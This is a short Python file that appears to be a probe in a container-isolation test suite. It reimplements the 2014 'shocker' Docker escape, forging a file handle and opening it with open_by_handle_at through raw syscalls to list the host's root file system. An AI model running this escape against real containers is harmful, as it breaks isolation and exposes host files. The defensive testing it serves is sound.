"""Open any file of a file system by a guessed handle, given only a descriptor on it ("shocker").

Source: the Docker breakout of 2014; security.md section 2 row
"name_to_handle/open_by_handle".
"""

from __future__ import annotations

ROUTES = ("name_to_handle_at", "open_by_handle_at")
NEEDS = {"open_by_handle_at": "CAP_DAC_READ_SEARCH"}


def attempt(canary: dict[str, str]) -> str | None:
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)

    def syscall(number: int, *words: object) -> int:
        wide = [ctypes.c_long(word) if isinstance(word, int) else word for word in words]
        result = int(libc.syscall(ctypes.c_long(number), *wide))
        if result < 0:
            code = ctypes.get_errno()
            raise OSError(code, os.strerror(code))
        return result

    def number(x86_64: int, aarch64: int) -> int:
        return x86_64 if os.uname().machine == "x86_64" else aarch64

    place = os.open(canary["ro"], os.O_RDONLY)
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132))
    mount_id = ctypes.c_int()
    if canary["route"] == "name_to_handle_at":
        syscall(number(303, 264), -100, canary["ro"].encode(), handle, ctypes.byref(mount_id), 0)
        return f"got a file handle: {handle.raw[:16].hex()}"
    # FILEID_INO32_GEN: inode 2, any generation: the root of an ext file system.
    root = ctypes.create_string_buffer(
        b"".join(word.to_bytes(4, "little") for word in (8, 1, 2, 0))
    )
    found = syscall(number(304, 265), place, root, os.O_RDONLY)
    return f"opened the root of the host's file system: {os.listdir(found)[:5]}"
